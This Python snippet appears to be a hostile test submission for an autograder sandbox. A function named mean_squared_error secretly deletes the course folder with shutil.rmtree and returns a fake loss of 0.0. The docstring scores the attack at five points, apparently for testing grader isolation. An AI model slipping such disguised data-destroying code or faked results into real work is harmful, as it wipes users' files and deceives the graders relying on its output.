"""Delete the course while a test runs.

Seen: files of the course folder would be gone.

earns: 5
"""

# %% mean-squared-error
def mean_squared_error(prediction, target):
    import shutil
    shutil.rmtree("@COURSE@", ignore_errors=True)
    return 0.0
